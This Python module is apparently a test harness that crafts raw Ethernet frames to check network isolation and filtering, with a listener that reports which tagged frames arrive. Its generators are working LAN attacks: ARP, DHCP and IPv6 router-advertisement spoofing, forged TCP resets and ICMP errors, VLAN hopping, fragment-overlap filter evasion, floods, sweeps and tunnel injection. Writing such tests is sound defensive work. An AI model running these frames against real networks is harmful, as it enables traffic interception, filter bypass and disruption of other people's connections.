"""Attacks for the tests: `send THEME KEY=VALUE…` sends every frame of a theme, `hear` and `listen` print which ones arrive.

Each frame bears its name, `attack:NAME;`, in its payload or in the padding behind it.
"""

import re
import selectors
import socket
import struct
import sys
import time

from peer import checksum, ready, router_advertisement

MARK = re.compile(rb"attack:([A-Za-z0-9.-]+);")
BROADCAST = "ff:ff:ff:ff:ff:ff"
NOBODY = "0a:58:de:ad:be:ef"
IPV4, ARP, IPV6, VLAN, QINQ = 0x0800, 0x0806, 0x86DD, 0x8100, 0x88A8
LOOSE_SOURCE_ROUTE, RECORD_ROUTE = 131, 7


def mark(name):
    return f"attack:{name};".encode()


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def eth(to, sender, kind, payload):
    return (mac(to) + mac(sender) + struct.pack("!H", kind) + payload).ljust(60, b"\0")


def ip(source, destination, protocol, body, ident=7, offset=0, more=False, ttl=64, options=b""):
    words = 5 + len(options) // 4
    flags = (0x2000 if more else 0) | offset // 8
    head = struct.pack("!BBHHHBBH", 0x40 | words, 0, words * 4 + len(body), ident, flags, ttl, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def udp(body, sport=4000, dport=4000):
    return struct.pack("!HHHH", sport, dport, 8 + len(body), 0) + body


def tcp(source, destination, sport, dport, seq, flags, body=b""):
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, 1, 0x50, flags, 512, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!HH", 6, len(head) + len(body))
    return head[:16] + struct.pack("!H", checksum(pseudo + head + body)) + head[18:] + body


def icmp(kind, code, rest, body):
    message = struct.pack("!BBH", kind, code, 0) + rest + body
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def sctp(sport, dport, tag):
    """An INIT that bears a tag as a parameter that may be skipped."""
    parameter = struct.pack("!HH", 0xC000, 4 + len(tag)) + tag.ljust(-(-len(tag) // 4) * 4, b"\0")
    chunk = struct.pack("!BBHIIHHI", 1, 0, 20 + len(parameter), 1, 65536, 1, 1, 1) + parameter
    head = struct.pack("!HHI", sport, dport, 0)
    crc = 0xFFFFFFFF
    for byte in head + bytes(4) + chunk:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return head + struct.pack("<I", crc ^ 0xFFFFFFFF) + chunk


def arp(operation, sender_mac, sender, target):
    addresses = mac(sender_mac) + socket.inet_aton(sender) + b"\0" * 6 + socket.inet_aton(target)
    return struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + addresses


def ipv6(destination, body):
    source, destination = (socket.inet_pton(socket.AF_INET6, address) for address in ("fe80::bad", destination))
    return struct.pack("!IHBB", 6 << 28, len(body), 17, 255) + source + destination + body


def link(own, a):
    """What a shared wire would carry from `ip` to its neighbour `victim`, past the router."""
    you, gateway, broadcast = a["victim"], a["gateway"], a["ip"].rsplit(".", 1)[0] + ".255"

    def to_you(name, source=None, sender=None, to=None):
        packet = ip(source or a["ip"], you, 17, udp(mark(name)))
        return name, eth(to or a["victim-mac"], sender or own, IPV4, packet)

    def group(name, destination, to, sport=4000, dport=4000, source=None):
        return name, eth(to, own, IPV4, ip(source or a["ip"], destination, 17, udp(mark(name), sport, dport)))

    yield to_you("direct")
    yield to_you("as-gateway", source=gateway)
    yield to_you("as-other-subnet", source=a["other"])
    yield to_you("mac-of-gateway", sender=a["gateway-mac"])
    yield to_you("mac-of-nobody", sender=NOBODY)
    yield to_you("to-everybody", to=BROADCAST)
    yield to_you("to-an-unknown-mac", to=NOBODY)
    yield group("broadcast", "255.255.255.255", BROADCAST)
    yield group("subnet-broadcast", broadcast, BROADCAST)
    yield group("mdns", "224.0.0.251", "01:00:5e:00:00:fb", 5353, 5353)
    yield group("all-hosts", "224.0.0.1", "01:00:5e:00:00:01")
    yield group("dhcp-offer", "255.255.255.255", BROADCAST, 67, 68)
    yield group("dhcp-discover", "255.255.255.255", BROADCAST, 68, 67, source="0.0.0.0")
    yield "arp-gratuitous", eth(BROADCAST, own, ARP, arp(2, own, gateway, gateway) + mark("arp-gratuitous"))
    yield "arp-reply", eth(a["victim-mac"], own, ARP, arp(2, own, gateway, you) + mark("arp-reply"))
    yield "arp-request", eth(BROADCAST, own, ARP, arp(1, own, a["ip"], you) + mark("arp-request"))
    for name, kind, tag in [("vlan", VLAN, b"\0\5"), ("priority-tag", VLAN, b"\xe0\0"), ("qinq", QINQ, b"\0\5\x81\0\0\6")]:
        for to, how in [(a["victim-mac"], name), (BROADCAST, f"{name}-to-all")]:
            yield how, eth(to, own, kind, tag + struct.pack("!H", IPV4) + ip(a["ip"], you, 17, udp(mark(how))))
    yield "odd-ethertype", eth(a["victim-mac"], own, 0x88B5, mark("odd-ethertype"))
    yield "odd-ethertype-to-all", eth(BROADCAST, own, 0x88B5, mark("odd-ethertype-to-all"))
    yield "stp", eth("01:80:c2:00:00:00", own, 38, b"\x42\x42\x03" + bytes(35) + mark("stp"))
    yield "lldp", eth("01:80:c2:00:00:0e", own, 0x88CC, mark("lldp"))
    for name, to, destination in [("ipv6", a["victim-mac"], "fe80::1"), ("ipv6-all-nodes", "33:33:00:00:00:01", "ff02::1")]:
        yield name, eth(to, own, IPV6, ipv6(destination, udp(mark(name))))
    yield "ipv6-ra", eth("33:33:00:00:00:01", own, IPV6, router_advertisement("2001:db8:bad::") + mark("ipv6-ra"))
    inner = ip(you, a["other"], 17, udp(b""))
    redirect = icmp(5, 1, socket.inet_aton(a["ip"]), inner)
    yield "redirect", eth(a["victim-mac"], own, IPV4, ip(gateway, you, 1, redirect) + mark("redirect"))
    reset = tcp(gateway, you, 80, 4000, 1, 0x04, mark("reset"))
    yield "reset", eth(a["victim-mac"], own, IPV4, ip(gateway, you, 6, reset))


def sources(own, a):
    """Each of the sources `from` to each of the destinations `to`, by the router."""
    for source in a["from"].split(","):
        for destination in a["to"].split(","):
            name = f"{source}-{destination}"
            yield name, eth(a["gateway-mac"], own, IPV4, ip(source, destination, 17, udp(mark(name))))


def protocols(own, a):
    """Each IP protocol to each destination, by the router."""
    for number in [1, 2, 4, 6, 17, 41, 47, 50, 89, 103, 132, 253]:
        for destination in a["to"].split(","):
            name = f"{number}-{destination}"
            init = sctp(4000, 80, mark(name))
            body = {132: init, 1: icmp(8, 0, bytes(4), mark(name)), 6: tcp(a["ip"], destination, 4000, 80, 1, 2, mark(name))}
            packet = ip(a["ip"], destination, number, body.get(number, udp(mark(name))))
            yield name, eth(a["gateway-mac"], own, IPV4, packet)


def tricks(own, a):
    """Packets to port `port` of each destination that a filter may misread, by the router."""
    for destination in a["to"].split(","):
        yield from tricks_for(own, a, destination, int(a.get("port", 443)))


def tricks_for(own, a, destination, port):
    def sent(packet, tag=b""):
        return eth(a["gateway-mac"], own, VLAN if tag else IPV4, tag + packet)

    def named(name):
        return f"{name}-{destination}", udp(mark(f"{name}-{destination}").ljust(32, b"."), 4000, port)

    def whole(name, **how):
        full, body = named(name)
        return full, sent(ip(a["ip"], destination, 17, body, **how))

    yield whole("plain")
    yield whole("short-lived", ttl=int(a.get("ttl", 4)))
    route = socket.inet_aton("10.0.1.1")
    yield whole("record-route", options=bytes([RECORD_ROUTE, 7, 4]) + route + b"\0")
    full, body = named("priority-tagged")
    yield full, sent(ip(a["ip"], destination, 17, body), b"\xe0\0" + struct.pack("!H", IPV4))
    # The ports in a fragment of their own, the smallest there is; in order, and the last one first.
    full, body = named("tiny-fragments")
    yield full, sent(ip(a["ip"], destination, 17, body[:8], 101, more=True))
    yield full, sent(ip(a["ip"], destination, 17, body[8:], 101, offset=8))
    full, body = named("fragments-backwards")
    yield full, sent(ip(a["ip"], destination, 17, body[8:], 102, offset=8))
    yield full, sent(ip(a["ip"], destination, 17, body[:8], 102, more=True))


def source_route(own, a):
    """To the gateway, and from there to each destination, by the sender's own choice."""
    for destination in a["to"].split(","):
        name = f"source-route-{destination}"
        options = bytes([LOOSE_SOURCE_ROUTE, 7, 4]) + socket.inet_aton(destination) + b"\0"
        packet = ip(a["ip"], a["gateway"], 17, udp(mark(name)), options=options)
        yield name, eth(a["gateway-mac"], own, IPV4, packet)


def overlaps(own, a):
    """To the open port `open`, until a second fragment that overlaps makes it `port`."""
    body = udp(mark("overlap").ljust(40, b"."), 4000, int(a["open"]))
    evil = struct.pack("!HHHH", 4000, int(a["port"]), len(body), 0) + mark("overlap").ljust(40, b".")
    for ident, parts in enumerate([[(body[:24], 0, True), (evil[:16], 0, True), (body[24:], 24, False)],
                                   [(evil[8:], 8, False), (body[:16], 0, True), (evil[:8], 0, True)]], 200):
        for part, offset, more in parts:
            packet = ip(a["ip"], a["to"], 17, part, ident, offset, more)
            yield "overlap", eth(a["gateway-mac"], own, IPV4, packet)


def fragment(own, a):
    """One fragment of a packet in the name of `source`: `part` is its `head` or its `tail`, which says who sent it."""
    name = a["part"] + "-" + a["ip"]
    body = udp(b"".ljust(24, b"."), 4000, 4000) if a["part"] == "head" else mark(name).ljust(32, b".")
    body = body[:4] + struct.pack("!H", 64) + body[6:] if a["part"] == "head" else body
    offset = 0 if a["part"] == "head" else 32
    packet = ip(a["source"], a["to"], 17, body, 99, offset, more=a["part"] == "head")
    tag = bytes.fromhex(a.get("tag", ""))
    if tag:
        yield name, eth(a["gateway-mac"], own, struct.unpack("!H", tag[:2])[0], tag[2:] + struct.pack("!H", IPV4) + packet)
    else:
        yield name, eth(a["gateway-mac"], own, IPV4, packet)


def fragment_flood(own, a):
    """First fragments of `count` packets that never come to an end."""
    for ident in range(int(a["count"])):
        packet = ip(a["ip"], a["to"], 17, udp(mark("fragment-flood").ljust(64, b".")), ident, more=True)
        yield "fragment-flood", eth(a["gateway-mac"], own, IPV4, packet)


def tunnels(own, a):
    """Packets from `ip` to `inner`, wrapped and sent to each of `to`: whoever unwraps them lets them in."""
    for outer in a["to"].split(","):
        for name, number, head in [("ipip", 4, b""), ("gre", 47, struct.pack("!HH", 0, IPV4))]:
            name = f"{name}-{outer}"
            inner = ip(a["ip"], a["inner"], 17, udp(mark(name)))
            yield name, eth(a["gateway-mac"], own, IPV4, ip(a["ip"], outer, number, head + inner))
        name = f"vxlan-{outer}"
        inner = eth(a["inner-mac"], own, IPV4, ip(a["ip"], a["inner"], 17, udp(mark(name))))
        vxlan = udp(struct.pack("!II", 0x08000000, 42 << 8) + inner, 4000, 4789)
        yield name, eth(a["gateway-mac"], own, IPV4, ip(a["ip"], outer, 17, vxlan))


def arp_flood(own, a):
    """Asks for the gateway in the name of `count` senders that are nobody, of each of the networks `from`."""
    for network in a["from"].split(","):
        for number in range(1, 1 + int(a["count"])):
            yield "arp-flood", eth(BROADCAST, own, ARP, arp(1, own, f"{network}.{number}", a["gateway"]))


def mac_flood(own, a):
    """Frames from `count` MAC addresses."""
    for number in range(int(a["count"])):
        sender = (b"\x02\xbb" + struct.pack("!I", number)).hex(":")
        yield "mac-flood", eth(BROADCAST, sender, 0x88B5, mark("mac-flood"))


def sweep(own, a):
    """A packet to each of the first `count` addresses of a /24, and to `count` ports of each of `to`."""
    for network in filter(None, a.get("from", "").split(",")):
        for number in range(1, 1 + int(a["count"])):
            yield "sweep", eth(a["gateway-mac"], own, IPV4, ip(a["ip"], f"{network}.{number}", 17, udp(mark("sweep"))))
    for destination in filter(None, a.get("to", "").split(",")):
        for port in range(1, 1 + int(a["count"])):
            packet = ip(a["ip"], destination, 17, udp(mark("sweep"), 4000, port))
            yield "sweep", eth(a["gateway-mac"], own, IPV4, packet)


def forgeries(own, a):
    """What would end a connection of others between `victim` and `other` (ports `sport` and `port`), from the sender's own address."""
    you, other, sport, port = a["victim"], a["other"], int(a["sport"]), int(a["port"])
    inner = ip(you, other, 6, struct.pack("!HHI", sport, port, 12345))
    for kind, code in [(3, 0), (3, 1), (3, 2), (3, 3), (3, 4), (4, 0), (5, 1), (11, 0), (12, 0)]:
        yield "forged-error", eth(a["gateway-mac"], own, IPV4, ip(a["ip"], you, 1, icmp(kind, code, b"\0\0\2\x40", inner)))
    for kind in [13, 17]:
        yield "forged-request", eth(a["gateway-mac"], own, IPV4, ip(a["ip"], you, 1, icmp(kind, 0, bytes(16), b"")))
    for source in [other, a["ip"]]:
        for flags in [0x04, 0x14, 0x03, 0x00, 0x29, 0x01, 0x02]:
            segment = tcp(source, you, port, sport, 99, flags)
            yield "odd-segment", eth(a["gateway-mac"], own, IPV4, ip(source, you, 6, segment))


THEMES = [link, sources, protocols, tricks, source_route, overlaps, fragment, fragment_flood, tunnels, arp_flood, mac_flood, sweep, forgeries]


def send(theme, *settings):
    """Sends a theme's frames once, or for `seconds`; prints the names of its attacks."""
    a = dict(setting.split("=", 1) for setting in settings)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((a.get("by", "eth0"), 0))
    own = raw.getsockname()[4].hex(":")
    frames = list({function.__name__: function for function in THEMES}[theme](own, a))
    ready()
    until = time.monotonic() + float(a.get("seconds", 0))
    while True:
        for _, data in frames:
            raw.send(data)
        if time.monotonic() >= until:
            break
        time.sleep(0.001)
    for name in dict.fromkeys(name for name, _ in frames):
        print(name)


def hear(*interfaces):
    """Prints the name of each attack whose frame comes in, and what else comes in as `other KIND SENDER RECEIVER`."""
    chosen = selectors.DefaultSelector()
    for interface in interfaces or ["eth0"]:
        raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        raw.bind((interface, 0))
        # PACKET_ADD_MEMBERSHIP of PACKET_MR_PROMISC: also what isn't for this MAC address.
        request = struct.pack("iHH8s", socket.if_nametoindex(interface), 1, 0, b"")
        raw.setsockopt(263, 1, request)
        chosen.register(raw, selectors.EVENT_READ)
    ready()
    while True:
        for key, _ in chosen.select():
            data, address = key.fileobj.recvfrom(65536)
            if address[2] != 4:  # not what this host sends itself
                print(what(data), flush=True)


def what(data):
    names = MARK.findall(data)
    kind = int.from_bytes(data[12:14], "big")
    return names[0].decode() if names else f"other {kind:#06x} {data[6:12].hex(':')} {data[:6].hex(':')}"


def listen(*ports):
    """Prints the name of each attack that a UDP socket on one of the ports receives, with the port."""
    chosen = selectors.DefaultSelector()
    for port in map(int, ports):
        place = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        place.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        place.bind(("0.0.0.0", port))
        chosen.register(place, selectors.EVENT_READ, port)
    ready()
    while True:
        for key, _ in chosen.select():
            for name in MARK.findall(key.fileobj.recv(65536)):
                print(name.decode(), key.data, flush=True)


def herald(address, name, port="4000"):
    """Sends one honest packet that bears a name."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(mark(name), (address, int(port)))


def flow(address, port, sport):
    """Sends one packet from a port of its own: what others might answer to."""
    place = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    place.bind(("0.0.0.0", int(sport)))
    place.sendto(b"hello", (address, int(port)))


if __name__ == "__main__":
    commands = [send, hear, listen, herald, flow]
    {command.__name__: command for command in commands}[sys.argv[1]](*sys.argv[2:])
